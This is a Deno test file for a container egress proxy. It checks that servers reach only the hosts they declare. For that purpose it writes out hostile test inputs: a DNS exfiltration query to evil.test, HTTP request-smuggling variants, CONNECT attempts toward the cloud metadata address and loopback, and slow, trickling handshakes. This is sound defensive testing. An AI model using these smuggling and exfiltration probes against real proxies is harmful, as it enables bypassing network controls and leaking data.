/** The way out, on the real engine: what a server reaches from inside its container, and what not. */
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { createServer as createTlsServer } from "node:https";
import type { AddressInfo } from "node:net";
import { type Attachment, Docker } from "../../dtma/docker.ts";
import {
  EGRESS_LABEL,
  EgressError,
  type EgressOptions,
  type ManagedEgress,
  openEgress,
} from "../../dtma/egress.ts";
import { Label } from "../../dtma/policy.ts";
import type { Denial } from "../../dtma/protocol.ts";
import { writeTar } from "../../dtma/tar.ts";
import { type Inside, openInside } from "./egress_inside.ts";
import { BASE, engineTest, leftovers, type Toolbox } from "./engine.ts";

/** An address of the host that the proxy reaches: the internet, as far as these tests go. */
const HOST = await (async () => {
  const docker = new Docker();
  try {
    return (await docker.inspectNetwork("bridge"))?.IPAM.Config?.[0]?.Gateway ?? "172.17.0.1";
  } catch {
    return "172.17.0.1";
  } finally {
    docker.close();
  }
})();

/** A certificate of its own authority for the names of these tests. */
async function certificate(): Promise<{ key: string; cert: string }> {
  const directory = await Deno.makeTempDir();
  try {
    const names = "subjectAltName=DNS:api.example.test,DNS:other.example.test,DNS:x.wild.test";
    const { success } = await new Deno.Command("openssl", {
      args: ["req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes"]
        .concat("-days", "2", "-subj", "/CN=test", "-addext", names)
        .concat("-keyout", `${directory}/key`, "-out", `${directory}/cert`),
      stderr: "null",
    }).output();
    assert.ok(success, "openssl makes a certificate");
    const read = (name: string) => Deno.readTextFile(`${directory}/${name}`);
    return { key: await read("key"), cert: await read("cert") };
  } finally {
    await Deno.remove(directory, { recursive: true });
  }
}

interface World {
  tls: number;
  http: number;
  /** Speaks first, then gives back what it gets. */
  echo: number;
  /** Requests the HTTP server got, as `host path`. */
  asked: string[];
  ca: string;
  connections(): number;
  close(): Promise<void>;
}

async function openWorld(): Promise<World> {
  const { key, cert } = await certificate();
  const asked: string[] = [];
  const tls = createTlsServer({ key, cert }, (request, response) => {
    response.end(`tls ${request.headers.host?.split(":")[0]}`);
  });
  await new Promise<void>((listening) => tls.listen(0, HOST, listening));
  const http = Deno.serve({ hostname: HOST, port: 0, onListen() {} }, async (request) => {
    const { pathname } = new URL(request.url);
    asked.push(`${request.headers.get("host")?.split(":")[0]} ${pathname}`);
    if (pathname === "/socket") {
      const { socket, response } = Deno.upgradeWebSocket(request);
      socket.onmessage = ({ data }) => socket.send(`back ${data}`);
      return response;
    }
    return new Response(`http ${await request.text()}`);
  });
  const echo = Deno.listen({ hostname: HOST, port: 0 });
  const open = new Set<Deno.Conn>();
  let connections = 0;
  const echoing = (async () => {
    for await (const connection of echo) {
      connections++;
      open.add(connection);
      (async () => {
        await connection.write(new TextEncoder().encode("ready\n"));
        await connection.readable.pipeTo(connection.writable);
      })().catch(() => {}).finally(() => open.delete(connection));
    }
  })();
  return {
    tls: (tls.address() as AddressInfo).port,
    http: http.addr.port,
    echo: echo.addr.port,
    asked,
    ca: cert,
    connections: () => connections,
    async close() {
      tls.closeAllConnections?.();
      await new Promise((closed) => tls.close(closed));
      await http.shutdown();
      echo.close();
      for (const connection of open) {
        try {
          connection.close();
        } catch {
          // Its pipe closed it.
        }
      }
      await echoing;
    },
  };
}

interface Scene {
  toolbox: Toolbox;
  world: World;
  denials: Denial[];
  egress: ManagedEgress;
  options: EgressOptions;
  open(hosts: string[]): Promise<Inside>;
  /** Waits until a denial like this is reported. */
  denied(inside: Inside, like: Partial<Denial> & { saying?: RegExp }): Promise<Denial>;
}

function egressTest(
  name: string,
  run: (scene: Scene) => Promise<void>,
  changes: Partial<EgressOptions> = {},
): void {
  engineTest(`egress: ${name}`, async (toolbox) => {
    const world = await openWorld();
    const denials: Denial[] = [];
    const options: EgressOptions = {
      docker: toolbox.docker,
      toolboxId: toolbox.id,
      privateNetworks: [`${HOST}/32`],
      addresses: {
        ...{ "api.example.test": [HOST], "other.example.test": [HOST], "x.wild.test": [HOST] },
        ...{ "loop.example.test": ["127.0.0.1"], "meta.example.test": ["169.254.169.254"] },
        "mapped.example.test": ["::ffff:127.0.0.1"],
        "private.example.test": ["10.11.12.13"],
      },
      onDenied: (denial) => denials.push(denial),
      log: (level, message) => {
        if (level !== "info") console.log(`${level}: ${message}`);
      },
      ...changes,
    };
    const egress = openEgress(options);
    const insides: Inside[] = [];
    const scene: Scene = {
      ...{ toolbox, world, denials, egress, options },
      async open(hosts) {
        const inside = await openInside(toolbox.docker, toolbox.id, egress, hosts);
        insides.push(inside);
        return inside;
      },
      async denied({ serverId }, { saying, ...like }) {
        for (let round = 0; round < 4000; round++) {
          const found = denials.find((denial) =>
            denial.serverId === serverId && (saying?.test(denial.reason) ?? true) &&
            Object.entries(like).every(([name, value]) => denial[name as keyof Denial] === value)
          );
          if (found) return found;
          await new Promise((resolve) => setTimeout(resolve, 50));
        }
        assert.fail(`no denial like ${JSON.stringify(like)} ${saying}: ${JSON.stringify(denials)}`);
      },
    };
    try {
      await run(scene);
    } finally {
      await egress.detach();
      for (const inside of insides) inside.close();
      await world.close();
    }
  });
}

egressTest("a declared host is reached, and nothing else is", async (scene) => {
  const { world, toolbox: { docker, id } } = scene;
  const one = await scene.open([`api.example.test:${world.tls}`]);
  const other = await scene.open([`other.example.test:${world.tls}`]);
  const get = "return await get(input)";
  const tls = { port: world.tls, ca: world.ca, path: "/" };

  assert.equal(
    await one.run(get, { ...tls, host: "api.example.test" }),
    "200 tls api.example.test",
  );
  assert.equal(
    await other.run(get, { ...tls, host: "other.example.test" }),
    "200 tls other.example.test",
  );
  assert.match(
    await one.run(
      `return await new Promise((done) => {
        const socket = tls.connect({ host: "api.example.test", port: input.port, servername: "api.example.test" });
        socket.on("secureConnect", () => done("trusted")).on("error", (error) => done(error.code));
      })`,
      tls,
    ),
    /SELF_SIGNED|UNABLE_TO_VERIFY/,
    "what the host shows is not signed anew",
  );

  assert.equal(await one.run(get, { ...tls, host: "other.example.test" }), "ENOTFOUND");
  const denial = await scene.denied(one, { host: "other.example.test", port: 0 });
  assert.match(denial.reason, /declared/);
  assert.ok(!scene.denials.some(({ serverId }) => serverId === other.serverId));

  // By address: the host, its listeners, the other server, the metadata service, the internet.
  const details = await docker.inspectContainer(one.containerId);
  assert.deepEqual(Object.keys(details.NetworkSettings.Networks), [one.container]);
  const gateway = one.proxyAddress.replace(/\d+$/, (last) => String(Number(last) - 1));
  const outward = (await docker.inspectNetwork(`mooring-egress-${id}`))!.IPAM.Config![0].Gateway!;
  const targets: [string, number][] = [
    ...[[HOST, world.http], [gateway, world.http], [outward, world.http]] as [string, number][],
    ...[[other.address, 9], [other.proxyAddress, 3128], ["1.1.1.1", 443]] as [string, number][],
    ["169.254.169.254", 80],
    [one.proxyAddress, world.http],
  ];
  const reached = await Promise.all(
    targets.map(async (
      [host, port],
    ) => [host, port, await one.run("return await connect(...input)", [port, host])]),
  );
  for (const [host, port, result] of reached) {
    assert.match(result, /^E(HOSTUNREACH|NETUNREACH|CONNREFUSED|TIMEDOUT)$/, `${host}:${port}`);
  }

  // UDP to the host: nothing arrives.
  const udp = createSocket("udp4");
  const heard: string[] = [];
  udp.on("message", (_message, from) => heard.push(from.address));
  await new Promise<void>((bound) => udp.bind(0, "0.0.0.0", () => bound()));
  await one.run(
    `for (const address of input.addresses) {
      const socket = dgram.createSocket("udp4").on("error", () => {});
      socket.send("out", input.port, address, () => {});
    }
    await new Promise((done) => setTimeout(done, 4000));`,
    { port: udp.address().port, addresses: [HOST, gateway, outward] },
  );
  udp.close();
  assert.deepEqual(heard, []);

  // Bigger things than a name of its own: IPv6, and the host's bridge by its link-local address.
  const interfaces = await one.run(`return Object.values(os.networkInterfaces()).flat()`);
  assert.deepEqual(
    interfaces.filter(({ family, internal }: { family: string; internal: boolean }) =>
      family === "IPv6" && !internal
    ),
    [],
  );
});

egressTest("the proxy answers declared names alone, and asks no name server", async (scene) => {
  const { world } = scene;
  const inside = await scene.open([`api.example.test:${world.tls}`, `*.wild.test:${world.tls}`]);
  // As resolvers do: datagrams may be lost.
  const patient = { timeout: 5000, tries: 4 };
  const ask = (type: string, name: string, server = inside.proxyAddress, waits = patient) =>
    inside.run(
      `const resolver = new dns.Resolver(input.waits);
      resolver.setServers([input.server]);
      return await resolver.resolve(input.name, input.type).catch((error) => error.code)`,
      { type, name, server, waits },
    );
  assert.deepEqual(await ask("A", "API.example.test"), [inside.proxyAddress]);
  assert.deepEqual(await ask("A", "x.wild.test"), [inside.proxyAddress]);
  assert.deepEqual(await ask("A", "api.example.test", "127.0.0.11"), [inside.proxyAddress]);
  for (const type of ["AAAA", "TXT", "MX", "SRV", "NAPTR"]) {
    assert.equal(await ask(type, "api.example.test"), "ENODATA", type);
    assert.equal(await ask(type, "data.evil.test"), "ENOTFOUND", type);
  }
  assert.equal(await ask("A", "wild.test"), "ENOTFOUND");
  // Docker's own resolver passes what it does not know to the proxy, and to nobody else.
  assert.equal(await ask("TXT", "c2VjcmV0.evil.test", "127.0.0.11"), "ENOTFOUND");
  await scene.denied(inside, { host: "c2vjcmv0.evil.test", port: 0 });
  // Other containers have no names here.
  const other = await scene.open([`api.example.test:${world.tls}`]);
  for (const name of [other.container, other.containerId.slice(0, 12)]) {
    assert.equal(await ask("A", name, "127.0.0.11"), "ENOTFOUND");
  }
  assert.match(
    await ask("A", "example.com", "1.1.1.1", { timeout: 2000, tries: 1 }),
    /^E(TIMEOUT|CONNREFUSED|SERVFAIL)$/,
  );

  const overTcp = await inside.run(
    `const socket = net.connect(53, input);
    const name = Buffer.concat(["api", "example", "test", ""].map((label) =>
      Buffer.concat([Buffer.from([label.length]), Buffer.from(label)])));
    const query = Buffer.concat([Buffer.from([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), name, Buffer.from([0, 1, 0, 1])]);
    const length = Buffer.alloc(2);
    length.writeUInt16BE(query.length);
    socket.write(Buffer.concat([length, query, length, query.subarray(0, 5)]));
    socket.end(query.subarray(5));
    let answer = Buffer.alloc(0);
    for await (const chunk of socket) answer = Buffer.concat([answer, chunk]);
    return [...answer].slice(-4).join(".") + " " + answer.length / (2 + answer.readUInt16BE(0));`,
    inside.proxyAddress,
  );
  assert.equal(overTcp, `${inside.proxyAddress} 2`);
  // Rubbish gets no answer, and the next question gets one.
  await inside.run(
    `const socket = dgram.createSocket("udp4");
    for (let round = 0; round < 500; round++) {
      socket.send(require("crypto").randomBytes(round % 60), 53, input);
    }
    await new Promise((done) => setTimeout(done, 300));
    socket.close();`.replace("require(", "process.getBuiltinModule("),
    inside.proxyAddress,
  );
  assert.deepEqual(await ask("A", "api.example.test"), [inside.proxyAddress]);
});

egressTest("a name in the stream that was not declared is refused", async (scene) => {
  const { world } = scene;
  const inside = await scene.open([
    ...[`api.example.test:${world.tls}`, `other.example.test:${world.tls}`],
    ...[`api.example.test:${world.http}`, `api.example.test:443`, `api.example.test:80`],
    ...[`loop.example.test:${world.tls}`, `meta.example.test:${world.tls}`],
    ...[`mapped.example.test:${world.tls}`, `private.example.test:${world.tls}`],
    `api.example.test:${world.echo}`,
  ]);
  const { proxyAddress } = inside;
  const hello = (servername: string, host = proxyAddress, port = world.tls) =>
    inside.run(
      `return await new Promise((done) => {
        const socket = tls.connect({ host: input.host, port: input.port, servername: input.servername, ca: input.ca });
        socket.on("secureConnect", () => { done("secure"); socket.destroy(); });
        socket.on("error", (error) => done(error.code));
      })`,
      { servername, host, port, ca: world.ca },
    );
  assert.equal(await hello("api.example.test"), "secure");
  assert.match(await hello("evil.test"), /ACCESS_DENIED|ECONNRESET/);
  await scene.denied(inside, { host: "evil.test", port: world.tls });
  assert.match(await hello(""), /ACCESS_DENIED|ECONNRESET|ALTNAME/);
  await scene.denied(inside, { port: world.tls, saying: /without a server name/ });
  // The port leads to one host alone: its name is still the only one.
  assert.match(await hello("x.wild.test", proxyAddress, 443), /ACCESS_DENIED|ECONNRESET/);

  // Names that lead elsewhere than to the internet.
  for (
    const [name, saying] of [["loop", /loopback/], ["meta", /metadata/], ["mapped", /IPv4/], [
      "private",
      /private/,
    ]] as const
  ) {
    assert.match(await hello(`${name}.example.test`), /ACCESS_DENIED|ECONNRESET/);
    await scene.denied(inside, { host: `${name}.example.test`, port: world.tls, saying });
  }

  const talk = (port: number, text: string | string[]) =>
    inside.run("return await talk(...input)", [{ host: proxyAddress, port }, text]);
  const request = (host: string, path: string, more = "") =>
    `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${more}\r\n`;
  const close = "Connection: close\r\n";
  const api = `api.example.test:${world.http}`;
  assert.match(await talk(world.http, request(api, "/one", close)), /^HTTP\/1.1 200 /);
  assert.match(
    await talk(world.http, request(`evil.test:${world.http}`, "/two")),
    /^HTTP\/1.1 403 .*evil\.test:\d+: Not among/s,
  );
  await scene.denied(inside, { host: "evil.test", port: world.http });
  // Pipelined, and hidden in ways that two parsers could read differently.
  const pipelined = request(api, "/three") + request("evil.test", "/four");
  const answered = await talk(world.http, pipelined);
  assert.match(answered, /^HTTP\/1.1 200 .*HTTP\/1.1 403 /s);
  await scene.denied(inside, { host: "evil.test", saying: /second Host/ });
  const evil = request("evil.test", "/smuggled");
  for (
    const text of [
      `POST / HTTP/1.1\r\nHost: ${api}\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${evil}`,
      `POST / HTTP/1.1\r\nHost: ${api}\r\nContent-Length: 5\r\nContent-Length: 0\r\n\r\n${evil}`,
      `GET / HTTP/1.1\r\nHost: ${api}\r\nConnection: content-length\r\nContent-Length: ${evil.length}\r\n\r\n${evil}`,
      `GET / HTTP/1.1\r\nHost: ${api}\r\nHost: evil.test\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: ${api}\r\n Host: evil.test\r\n\r\n`,
      `GET http://evil.test/ HTTP/1.1\r\nHost: ${api}\r\n\r\n`,
      `GET / HTTP/1.1\r\nHost: ${api}@evil.test\r\n\r\n`,
      `\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n\r\n`,
      `GET / HTTP/1.1\r\n\r\n`,
      `GET / HTTP/1.0\r\n\r\n`,
    ]
  ) {
    await talk(world.http, [text]);
  }
  await scene.denied(inside, { host: "?", saying: /Not the name of a host/ });
  assert.ok(world.asked.every((each) => each.startsWith("api.example.test ")), String(world.asked));
  assert.ok(!world.asked.some((each) => each.includes("smuggled")), String(world.asked));
  assert.ok(!(await talk(80, "SSH-2.0-x\r\n")).includes("ready"));
  await scene.denied(inside, { port: 80, saying: /only HTTP/ });
  await talk(443, request("api.example.test", "/"));

  // A hello that never ends, and one that trickles, are not waited for without end.
  const slow = await inside.run(
    `return await Promise.all(["\\x16\\x03\\x01\\x02", "GET / HT", "\\x16\\x03\\x01\\x00\\x01\\x01"].map((begin) =>
      new Promise((done) => {
        const socket = net.connect(input.port, input.host);
        socket.write(Buffer.from(begin, "latin1"));
        let sent = 0;
        const trickle = setInterval(() => sent++ < 3 && socket.write(Buffer.from("\\x16\\x03\\x01\\x00\\x01\\x00", "latin1")), 300);
        socket.on("error", () => {}).on("close", () => { clearInterval(trickle); done("ended"); });
        socket.resume();
      })))`,
    { host: proxyAddress, port: world.tls },
  );
  assert.deepEqual(slow, ["ended", "ended", "ended"]);
});

egressTest(
  "streams without a name, proxies' clients, WebSockets and half-closed streams pass",
  async (scene) => {
    const { world } = scene;
    const inside = await scene.open([
      ...[`api.example.test:${world.tls}`, `api.example.test:${world.http}`],
      ...[`api.example.test:${world.echo}`, `${HOST}:${world.echo}`, `x.wild.test:${world.http}`],
    ]);
    // Two hosts have the port, so it is not known which is meant.
    const talk = (options: { host: string; port: number }, text: string | string[]) =>
      inside.run("return await talk(...input)", [options, text]);
    const { proxyAddress } = inside;
    assert.equal(
      (await talk({ host: "api.example.test", port: world.echo }, "*1\r\n")).includes("ready"),
      false,
    );
    await inside.allow([
      ...[`api.example.test:${world.tls}`, `api.example.test:${world.http}`],
      ...[`api.example.test:${world.echo}`, `x.wild.test:${world.http}`],
    ]);
    // The host speaks first; the end of one way leaves the other open.
    const echoed = await inside.run(
      `const socket = net.connect(input.port, "api.example.test");
    const first = await new Promise((done) => socket.once("data", done));
    socket.end("x".repeat(300_000) + "!");
    let rest = "";
    for await (const chunk of socket) rest += chunk;
    return first + rest.length + rest.at(-1);`,
      { port: world.echo },
    );
    assert.equal(echoed, "ready\n300001!");

    const proxy = { host: proxyAddress, port: 3128 };
    const connectTo = (authority: string, text = "") =>
      talk(proxy, [`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`, text]);
    assert.match(await connectTo("evil.test:443"), /^HTTP\/1.1 403 Forbidden.*Not among/s);
    assert.match(await connectTo("api.example.test:22"), /^HTTP\/1.1 403 /);
    for (
      const wrong of ["127.0.0.1:53", "169.254.169.254:80", "[::1]:80", `${proxyAddress}:3128`]
    ) {
      assert.match(await connectTo(wrong), /^HTTP\/1.1 403 /, wrong);
    }
    const viaConnect = (servername: string, name: string) =>
      inside.run(
        `return await new Promise((done) => {
        const request = http.request({ host: input.proxy, port: 3128, method: "CONNECT", path: input.name });
        request.on("connect", (response, socket) => {
          const secure = tls.connect({ socket, servername: input.servername, ca: input.ca });
          secure.on("secureConnect", () => { done(response.statusCode + " secure"); secure.destroy(); });
          secure.on("error", (error) => done(error.code));
        }).on("error", (error) => done(error.code)).end();
      })`,
        { proxy: proxyAddress, name, servername, ca: world.ca },
      );
    const name = `api.example.test:${world.tls}`;
    assert.equal(await viaConnect("api.example.test", name), "200 secure");
    assert.match(await viaConnect("other.example.test", name), /ACCESS_DENIED|ECONNRESET/);
    await scene.denied(inside, { host: "other.example.test", saying: /CONNECT/ });
    // HTTP inside of a tunnel is held to the tunnel's host.
    const http = `api.example.test:${world.http}`;
    const get = (host: string, path: string, more = "") =>
      `GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${more}\r\n`;
    assert.match(await connectTo(http, get(http, "/in")), /200 Connection.*HTTP\/1.1 200 OK/s);
    assert.match(
      await connectTo(http, get(`x.wild.test:${world.http}`, "/in")),
      /200 Connection.*HTTP\/1.1 403 /s,
    );
    // Absolute form; the Host of the URL counts, and the proxy's own headers stay here.
    const absolute = (url: string, more = "") => talk(proxy, get("whatever.test", url, more));
    const own = "Proxy-Authorization: Basic eDp5\r\n";
    assert.match(await absolute(`http://${http}/absolute`, own), /^HTTP\/1.1 200 .*http $/s);
    assert.ok(world.asked.includes("api.example.test /absolute"));
    assert.match(await absolute("http://evil.test/"), /^HTTP\/1.1 403 /);
    assert.match(await absolute(`https://${http}/`), /^HTTP\/1.1 403 /);
    assert.match(await absolute(`http://user@${http}/`), /^HTTP\/1.1 403 /);
    assert.match(await absolute("/"), /^HTTP\/1.1 403 /);

    const posted = await inside.run(
      `return await get({ ...input, method: "POST", body: "y".repeat(200_000), headers: { "transfer-encoding": "chunked" } })`,
      { host: "api.example.test", port: world.http, path: "/post" },
    );
    assert.equal(posted.length, "200 http ".length + 200_000);
    const kept = await inside.run(
      `const agent = new http.Agent({ keepAlive: true, maxSockets: 1 });
    const answers = [];
    for (let round = 0; round < 20; round++) answers.push(await get({ ...input, agent }));
    agent.destroy();
    return [...new Set(answers)];`,
      { host: "api.example.test", port: world.http, path: "/again" },
    );
    assert.deepEqual(kept, ["200 http "]);
    const socket = await inside.run(
      `const socket = new WebSocket("ws://api.example.test:" + input + "/socket");
    return await new Promise((done) => {
      socket.onopen = () => socket.send("a");
      socket.onmessage = ({ data }) => { done(data); socket.close(); };
      socket.onerror = (event) => done("error " + event.message);
    })`,
      world.http,
    );
    assert.equal(socket, "back a");

    // An address that was declared by its number is reached by CONNECT, as no name leads there.
    await inside.allow([`${HOST}:${world.echo}`]);
    const raw = await inside.run(
      `return await new Promise((done) => {
      http.request({ host: input.proxy, port: 3128, method: "CONNECT", path: input.path })
        .on("connect", (response, socket, head) => {
          // The host speaks first, perhaps in the same packet as the proxy's answer.
          if (head.length > 0) socket.unshift(head);
          socket.once("data", (data) => { done(String(data)); socket.destroy(); });
        }).end();
    })`,
      { proxy: proxyAddress, path: `${HOST}:${world.echo}` },
    );
    assert.equal(raw, "ready\n");
  },
);

/** Opens a stream to the echo server and keeps it in the container. */
const HOLD = `keep.socket = net.connect(input, "api.example.test");
  keep.ended = false;
  keep.socket.on("close", () => keep.ended = true).on("error", () => {});
  return String(await new Promise((done) => {
    keep.socket.once("data", done).on("close", () => done("closed"));
  }))`;
const PING = `if (keep.ended) return "ended";
  keep.socket.write("ping");
  return String(await new Promise((done) => {
    keep.socket.once("data", done).on("close", () => done("closed"));
  }))`;

egressTest(
  "another allow list is in force at once, and cuts what it does not hold",
  async (scene) => {
    const { world } = scene;
    const tls = `api.example.test:${world.tls}`;
    const echo = `api.example.test:${world.echo}`;
    const inside = await scene.open([tls, echo]);
    const get = (host: string) =>
      inside.run("return await get(input)", { host, port: world.tls, ca: world.ca });
    assert.equal(await inside.run(HOLD, world.echo), "ready\n");
    await inside.allow([tls, echo, `other.example.test:${world.tls}`]);
    assert.equal(await get("other.example.test"), "200 tls other.example.test");
    assert.equal(await inside.run(PING), "ping", "what stays declared is not touched");
    await inside.allow([`other.example.test:${world.tls}`]);
    assert.equal(
      await inside.run(
        `return keep.ended || await new Promise((done) => keep.socket.on("close", () => done(true)))`,
      ),
      true,
    );
    assert.equal(await get("api.example.test"), "ENOTFOUND");
    assert.match(
      await inside.run("return await connect(...input)", [world.echo, inside.proxyAddress]),
      /ECONNREFUSED/,
    );
  },
);

egressTest(
  "a proxy that is killed comes back by itself, and meanwhile nothing gets out",
  async (scene) => {
    const { world, toolbox: { docker, id } } = scene;
    const inside = await scene.open([`api.example.test:${world.echo}`]);
    assert.equal(await inside.run(HOLD, world.echo), "ready\n");
    const proxies = () => docker.listContainers([`${Label.toolbox}=${id}`, EGRESS_LABEL]);
    const [before] = await proxies();
    await docker.killContainer(before.Id);
    assert.equal(
      await inside.run(
        `return keep.ended || await new Promise((done) => keep.socket.on("close", () => done(true)))`,
      ).catch(() => true),
      true,
    );
    const connections = world.connections();
    for (;;) {
      const result = await inside.run(HOLD, world.echo);
      if (result === "ready\n") break;
      assert.equal(result, "closed");
    }
    const [after] = await proxies();
    assert.notEqual(after.Id, before.Id);
    assert.equal(world.connections(), connections + 1, "only by the new proxy");
  },
);

egressTest("a DTMA that comes anew takes over what runs, streams and all", async (scene) => {
  const { world, options, toolbox: { docker, id } } = scene;
  const echo = `api.example.test:${world.echo}`;
  const one = await scene.open([echo]);
  const two = await scene.open([echo]);
  for (const inside of [one, two]) assert.equal(await inside.run(HOLD, world.echo), "ready\n");
  await scene.egress.detach();
  // Nobody is there: traffic goes on, and what is refused is kept for the next DTMA.
  await one.run(`await dns.lookup("evil.test").catch(() => {})`);
  assert.equal(await one.run(PING), "ping");
  const [before] = await docker.listContainers([`${Label.toolbox}=${id}`, EGRESS_LABEL]);
  const next = openEgress(options);
  try {
    // The first server that the new DTMA comes to: the other one is not cut by it.
    const labels = { [Label.toolbox]: id, [Label.server]: one.serverId };
    const route = await next.open(one.container, { serverId: one.serverId, hosts: [echo], labels });
    assert.equal(route.proxyAddress, one.proxyAddress);
    for (const inside of [one, two]) assert.equal(await inside.run(PING), "ping");
    await scene.denied(one, { host: "evil.test", port: 0 });
    const [after] = await docker.listContainers([`${Label.toolbox}=${id}`, EGRESS_LABEL]);
    assert.equal(after.Id, before.Id);
    // One server is gone meanwhile.
    await docker.removeContainer(two.containerId);
    await next.sweep([one.container]);
    assert.equal(await docker.inspectNetwork(two.container), null);
    assert.equal(await one.run(PING), "ping");
    await docker.removeContainer(one.containerId);
    await next.close(one.container);
    await next.close(one.container);
    assert.deepEqual(await leftovers(docker, id), { containers: [], networks: [], images: [] });
  } finally {
    await next.detach();
  }
});

egressTest(
  "a proxy of another make is replaced, and knows what the one before knew",
  async (scene) => {
    const { world, options, toolbox: { docker, id } } = scene;
    const echo = `api.example.test:${world.echo}`;
    const one = await scene.open([echo]);
    const two = await scene.open([echo]);
    assert.equal(await two.run(HOLD, world.echo), "ready\n");
    await scene.egress.detach();
    const base = `mooring-test/base:${id}`;
    await docker.buildImage(
      writeTar({ Dockerfile: `FROM ${BASE}\nLABEL ${Label.toolbox}=${id}\n` }),
      { tag: base, buildArguments: {}, labels: {}, onLine: () => {} },
    );
    const proxy = async () =>
      (await docker.listContainers([`${Label.toolbox}=${id}`, EGRESS_LABEL]))[0];
    const before = await proxy();
    const next = openEgress({ ...options, base });
    try {
      const labels = { [Label.toolbox]: id, [Label.server]: one.serverId };
      await next.open(one.container, { serverId: one.serverId, hosts: [echo], labels });
      const after = await proxy();
      assert.notEqual(after.ImageID, before.ImageID);
      for (const inside of [one, two]) assert.equal(await inside.run(HOLD, world.echo), "ready\n");
    } finally {
      await next.detach();
      const { Id, ImageID } = await proxy();
      await docker.removeContainer(Id);
      await docker.removeImage(ImageID);
    }
  },
);

egressTest("a subnet that the host uses itself is left out", async (scene) => {
  const { toolbox: { docker, id } } = scene;
  // One of another toolbox that came first, and one that the engine knows nothing of: the host's
  // address answers on every bridge, and only by that it is found.
  const network = `mooring-test-stranger-${id}`;
  await docker.createNetwork({
    ...{ Name: network, Driver: "bridge", Labels: { [Label.toolbox]: id } },
    IPAM: { Config: [{ Subnet: "10.214.77.0/29", Gateway: "10.214.77.1" }] },
  });
  const address = (action: string) =>
    new Deno.Command("ip", { args: ["address", action, "10.214.77.9/32", "dev", "lo"] }).output();
  const mayChange = (await address("add").catch(() => null))?.success ?? false;
  if (!mayChange) console.warn("    only root gives the host an address: that part is left out");
  const seen = new Proxy(docker, {
    get(target, name) {
      const value = Reflect.get(target, name);
      if (typeof value !== "function") return value;
      if (name !== "listNetworks") return value.bind(target);
      return async (labels: string[]) =>
        (await target.listNetworks(labels)).filter(({ Name }) => Name !== network);
    },
  });
  const egress = openEgress({ ...scene.options, docker: seen, pool: "10.214.77.0/27" });
  try {
    const serverId = crypto.randomUUID();
    const labels = { [Label.toolbox]: id, [Label.server]: serverId };
    const name = `mooring-${serverId}`;
    const route = await egress.open(name, {
      serverId,
      hosts: ["a.test:443"],
      labels,
    });
    const free = mayChange ? ["10.214.77.18", "10.214.77.26"] : ["10.214.77.10", "10.214.77.18"];
    assert.ok(free.includes(route.proxyAddress), route.proxyAddress);
    await egress.open(`${name}-2`, { serverId, hosts: ["a.test:443"], labels });
    if (mayChange) {
      await assert.rejects(
        egress.open(`${name}-3`, { serverId, hosts: ["a.test:443"], labels }),
        /No network is left|^EgressError: 1 network of 10\.214\.77\.0\/27 cannot be used/,
      );
      await address("delete");
      const third = await egress.open(`${name}-3`, { serverId, hosts: ["a.test:443"], labels });
      assert.equal(third.proxyAddress, "10.214.77.10", "it is free by now");
    }
  } finally {
    if (mayChange) await address("delete");
    await egress.detach();
  }
});

const mayAddress = Deno.uid() === 0 ? null : "only root gives the host addresses";
if (mayAddress) console.warn(`SKIPPED, a host that answers in all of the range: ${mayAddress}`);

if (!mayAddress) {
  egressTest("a host that answers in all of the range is told, after some of it", async (scene) => {
    const { toolbox: { docker, id } } = scene;
    const pool = "10.214.80.0/25";
    // On every bridge the host answers for its own addresses.
    const addresses = async (action: string) => {
      for (let last = 1; last < 128; last += 8) {
        const args = ["address", action, `10.214.80.${last}/32`, "dev", "lo"];
        assert.ok((await new Deno.Command("ip", { args }).output()).success, args.join(" "));
      }
    };
    const egress = openEgress({ ...scene.options, pool });
    const serverId = crypto.randomUUID();
    const name = `mooring-${serverId}`;
    const labels = { [Label.toolbox]: id, [Label.server]: serverId };
    const open = () => egress.open(name, { serverId, hosts: ["a.test:443"], labels });
    try {
      await addresses("add");
      try {
        await assert.rejects(open(), ({ reason, nextStep }: EgressError) => {
          assert.match(
            reason,
            /^8 networks of 10\.214\.80\.0\/25 cannot be used, the last because /,
          );
          assert.match(nextStep, /DTMA_SUBNETS/);
          return true;
        });
        assert.equal(await docker.inspectNetwork(name), null);
      } finally {
        await addresses("delete");
      }
      // Those that were tried are as good as any.
      assert.match((await open()).proxyAddress, /^10\.214\.80\./);
    } finally {
      await egress.detach();
    }
  });
}

/**
 * A stand-in for an engine on which the proxy says of each network that it `failed`, and ends at what it is told
 * after `configures` times: what cannot be had of a real one at will. It gives up when it is asked without end.
 */
function failingEngine(failed: string, configures: number) {
  const networks = new Set<string>();
  let asked = 0, configured = 0;
  const attached = (): Attachment => {
    const { readable: stdout, writable } = new TransformStream<Uint8Array>();
    const stderr = new ReadableStream<Uint8Array>({ start: (stream) => stream.close() });
    const over = Promise.withResolvers<void>();
    const writer = writable.getWriter();
    const say = (message: unknown) => {
      writer.write(new TextEncoder().encode(`${JSON.stringify(message)}\n`)).catch(() => {});
    };
    const close = () => {
      over.resolve();
      writer.close().catch(() => {});
    };
    const stdin = new WritableStream<Uint8Array>({
      write(bytes) {
        const { kind, id, config } = JSON.parse(new TextDecoder().decode(bytes));
        if (kind === "hello") {
          return say({
            kind: "state",
            id,
            config: { privateNetworks: [], addresses: {}, networks: {} },
          });
        }
        if (++configured > configures) return close();
        const names = Object.keys(config.networks);
        say({
          ...{ kind: "configured", id, error: null },
          failed: Object.fromEntries(names.map((name) => [name, failed])),
        });
      },
    });
    return { stdin, stdout, stderr, closed: over.promise, close };
  };
  const docker = {
    inspectImage: () => {
      if (++asked > 30) throw new EgressError("It is asked without end", "");
      return Promise.resolve({ Id: "sha256:0" });
    },
    listContainers: () => Promise.resolve([]),
    createContainer: () => Promise.resolve("proxy"),
    attachContainer: () => Promise.resolve(attached()),
    waitContainer: () => new Promise(() => {}),
    inspectContainer: () => Promise.resolve({ NetworkSettings: { Networks: {} } }),
    inspectNetwork: (name: string) =>
      Promise.resolve(networks.has(name) ? { Labels: {}, IPAM: {} } : null),
